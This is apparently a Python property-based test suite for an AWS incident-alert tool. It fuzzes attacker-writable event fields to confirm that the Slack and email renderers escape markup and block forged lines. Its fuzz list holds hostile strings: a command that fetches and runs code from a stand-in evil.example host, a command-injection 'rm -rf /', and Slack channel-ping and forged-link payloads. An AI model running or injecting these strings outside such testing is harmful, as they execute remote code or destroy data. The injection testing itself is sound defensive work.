"""Nothing an attacker writes can become markup or a line of its own in a message (issue 14, item 7).

Property-based: arbitrary strings (with Slack control sequences, entities, shell syntax, every kind
of line break and control character) go into every attacker-writable field of real events and
CloudTrail records: user and role names, tags, profile ARNs, the remote caller's organization and
country, the event's region, CloudTrail requestParameters values, created user names, user agents,
and the text a step builds from them. The whole path runs: normalize, the CloudTrail summary, the
verdict, console links, then both renderers. Asserted on every message:
* Slack: outside the renderer's own links `<https://...|label>`, no `<` or `>` at all (so no
  `<!channel>`, `<@U...>` or forged link) and no `&` that is not `&amp;`/`&lt;`/`&gt;`; the
  top-level `text` included.
* Both channels: no line break the renderer did not make. Every injected line break is followed by
  the marker `QQ`, which the renderer never writes at the start of a line: a line (of any kind
  Python's splitlines knows) starting with it was made by the attacker.
Not covered here: the product's multi-line commands (`manual`, `undo`), which their producers
build with every value shell-quoted.
"""

from __future__ import annotations

import itertools
import json
import re
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from common.steps import Status, step
from incident.normalize import normalize
from investigate.summary import summarize
from report.links import incident_links
from report.outcome import decide
from report.render import render_email, render_slack

EVENTS = Path(__file__).resolve().parent.parent / "events"
MARK = "QQ"
BREAKS = ["\n", "\r", "\r\n", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e"]
SPECIALS = [
    "<!channel>",
    "<!here|here>",
    "<@U024BE7LH>",
    "<#C024BE7LR>",
    "<https://evil.example|click here>",
    "<",
    ">",
    "&",
    "&amp;",
    "&lt;!channel&gt;",
    "|",
    "`",
    "```",
    "*bold*",
    "$(curl evil.example|sh)",
    "'; rm -rf / #",
    "\x00",
    "\x1b[31m",
    "\u202e",
    "\u200b",
    "\t",
    " ",
]
plain = st.text(
    alphabet=st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp"), blacklist_characters=MARK[0]), max_size=8
)
hostile = st.lists(
    st.one_of(plain, st.sampled_from(SPECIALS), st.sampled_from(BREAKS).map(lambda b: b + MARK)),
    min_size=1,
    max_size=12,
).map("".join)

_LINK = re.compile(r"<https://[^\s<>|]+\|[^<>]*>")
_ENTITY = re.compile(r"&(amp|lt|gt);")


def _guardduty(values: list[str]) -> dict[str, Any]:
    event = json.loads((EVENTS / "guardduty_exfil_outside_realistic.json").read_text())
    detail = event["detail"]
    resource, action = detail["resource"], detail["service"]["action"]["awsApiCallAction"]
    v = itertools.cycle(values)
    resource["accessKeyDetails"]["userName"] = next(v)
    resource["instanceDetails"]["iamInstanceProfile"]["arn"] = f"arn:aws:iam::111122223333:instance-profile/{next(v)}"
    resource["instanceDetails"]["tags"] = [{"key": next(v), "value": next(v)}, {"key": "Name", "value": next(v)}]
    remote = action["remoteIpDetails"]
    remote["organization"].update(asnOrg=next(v), isp=next(v), org=next(v))
    remote["country"]["countryName"] = next(v)
    action["userAgent"] = next(v)
    if len(values) > 3:
        event["region"] = detail["region"] = next(v)
    return event


def _health(values: list[str]) -> dict[str, Any]:
    event = json.loads((EVENTS / "health_exposed_key_2025_event_metadata.json").read_text())
    event["detail"].setdefault("eventMetadata", {})["userName"] = values[0]
    return event


def _cloudtrail(values: list[str]) -> list[dict[str, Any]]:
    """Real records, every requestParameters string and the user agent replaced."""
    records = json.loads((EVENTS / "cloudtrail" / "leaked_user_key_backdoor.json").read_text())
    v = itertools.cycle(values)

    def replace(node: Any) -> Any:
        if isinstance(node, dict):
            return {key: replace(item) for key, item in node.items()}
        if isinstance(node, list):
            return [replace(item) for item in node]
        return next(v) if isinstance(node, str) else node

    entries = []
    for number, record in enumerate(records):
        record = dict(record)
        record["requestParameters"] = replace(record.get("requestParameters") or {})
        record["userAgent"] = next(v)
        if isinstance((record.get("responseElements") or {}).get("accessKey"), dict):
            record["responseElements"]["accessKey"]["userName"] = next(v)
        entries.append(
            {
                "EventId": f"e{number}",
                "EventName": record["eventName"],
                "EventTime": record["eventTime"],
                "EventSource": record["eventSource"],
                "CloudTrailEvent": json.dumps(record),
            }
        )
    return entries


def _messages(event: dict[str, Any], values: list[str]) -> tuple[dict[str, str], dict[str, Any]]:
    intake = normalize(event)
    incident = intake.incident.model_dump(mode="json") if intake.incident else None
    investigation = summarize(_cloudtrail(values))
    created = investigation["persistence_calls"][0]["created"] if investigation["persistence_calls"] else {}
    steps = [
        step("revoke-role-sessions", Status.DONE, values[0], f"denies sessions of {values[-1]}", containment=True),
        step("investigate", Status.FAILED, values[-1], f"back door {created}: {values[0]}", containment=False),
    ]
    status = "accepted" if incident else "ignored"
    verdict = decide(status, intake.reason, steps if incident else [])
    execution = {"id": "arn:aws:states:us-east-1:111122223333:execution:m:x", "start_time": "2026-11-20T03:03:00Z"}
    links = incident_links(incident, verdict.steps, execution["id"])
    delivery = [{"channel": "slack", "status": "failed", "detail": values[0]}]
    email = render_email(incident, verdict, links, execution, delivery=delivery, investigation=investigation)
    slack = render_slack(incident, verdict, links, execution, investigation=investigation)
    return email, slack


def _mrkdwn_texts(payload: dict[str, Any]) -> list[str]:
    texts = [payload["text"]]
    for block in payload["blocks"]:
        if block["type"] == "section":
            if "text" in block:
                texts.append(block["text"]["text"])
            texts += [field["text"] for field in block.get("fields", [])]
        elif block["type"] == "context":
            texts += [element["text"] for element in block["elements"]]
    return texts


def _assert_no_forged_lines(text: str) -> None:
    for line in text.splitlines():
        assert not line.lstrip().startswith(MARK), f"a line the renderer did not make: {line!r}"


def _assert_clean(email: dict[str, str], slack: dict[str, Any]) -> None:
    assert len(email["subject"].splitlines()) == 1 and len(email["subject"]) < 100
    _assert_no_forged_lines(email["text"])
    for text in _mrkdwn_texts(slack):
        _assert_no_forged_lines(text)
        outside = _LINK.sub("", text)
        assert "<" not in outside and ">" not in outside, f"unescaped markup in {text!r}"
        assert "&" not in _ENTITY.sub("", outside), f"bare & in {text!r}"
    for block in slack["blocks"]:
        if block["type"] == "header":
            _assert_no_forged_lines(block["text"]["text"])


SETTINGS = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@SETTINGS
@given(st.lists(hostile, min_size=1, max_size=6))
def test_hostile_guardduty_fields_and_cloudtrail_stay_data(values: list[str]) -> None:
    _assert_clean(*_messages(_guardduty(values), values))


@SETTINGS
@given(st.lists(hostile, min_size=1, max_size=3))
def test_hostile_health_fields_and_cloudtrail_stay_data(values: list[str]) -> None:
    _assert_clean(*_messages(_health(values), values))


def test_the_property_can_fail() -> None:
    """The checks themselves catch what they are for."""
    import pytest

    with pytest.raises(AssertionError):
        _assert_no_forged_lines("fine\nQQ forged")
    with pytest.raises(AssertionError):
        _assert_clean({"subject": "s", "text": ""}, {"text": "<!channel>", "blocks": []})
    with pytest.raises(AssertionError):
        _assert_clean({"subject": "s", "text": ""}, {"text": "a & b", "blocks": []})
    _assert_clean({"subject": "s", "text": ""}, {"text": "<https://x.example/a?b=c|label &amp; more>", "blocks": []})
